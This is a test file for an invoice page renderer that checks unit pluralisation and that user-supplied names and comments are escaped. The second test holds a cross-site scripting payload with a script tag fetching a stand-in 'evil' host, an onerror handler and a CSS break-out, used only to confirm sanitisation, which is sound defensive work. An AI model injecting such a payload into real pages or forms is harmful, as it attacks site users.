import { composeInvoice } from '@pds/accounting/domain';
import { sampleDossier } from '@pds/accounting/domain/testing';
import { Money } from '@pds/kernel';
import { invoicePaper } from './invoice-paper';

const given = { number: 'F69-2026-000041', year: 2026, sequence: 41, issuedAt: Date.parse('2026-11-20T13:30:00Z') };
const line = { label: 'VPS', explanation: '', unitPriceCents: 5_000 };

function pageOf(dossier = sampleDossier(), contactName = 'Anne Martin', comment = ''): string {
  const amount = Money.ofCents(dossier.priceCents);
  const request = { amount, contactName, contactEmail: 'anne@marathon.example', commitmentNumber: '', comment };
  return invoicePaper(composeInvoice(dossier, request, Money.zero, given)).replaceAll('\u00a0', ' ');
}

describe('the page of an invoice', () => {
  it('counts units in the plural and gives a discount no price per unit', () => {
    const lines = [
      { ...line, quantity: 2, unit: 'véhicule', amountCents: 10_000 },
      { ...line, label: 'Tente', quantity: 1, unit: 'tente', amountCents: 5_000 },
      { ...line, label: 'Remise', quantity: 10, unit: '%', unitPriceCents: 15_000, amountCents: -1_500 },
    ];
    const page = pageOf(sampleDossier({ lines, priceCents: 13_500 }));
    expect(page).toContain('2 véhicules<');
    expect(page).toContain('1 tente<');
    expect(page).toContain('10 %<');
    expect(page).not.toContain('150,00 €');
  });

  it('keeps hostile names and comments from becoming markup', () => {
    const hostile = '"><script>fetch("http://evil")</script><img src=x onerror=y>\\"} body{display:none}';
    const { event, customer, issuer } = sampleDossier();
    const dossier = sampleDossier({
      event: { ...event, name: hostile, place: hostile },
      customer: { ...customer, name: hostile },
      issuer: { ...issuer, name: hostile, paymentConditions: hostile },
    });
    const page = pageOf(dossier, hostile, hostile);
    expect(page).not.toMatch(/<script|<img/);
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page.slice(page.indexOf('<style>'), page.indexOf('</style>'))).not.toContain('fetch("http');
  });
});
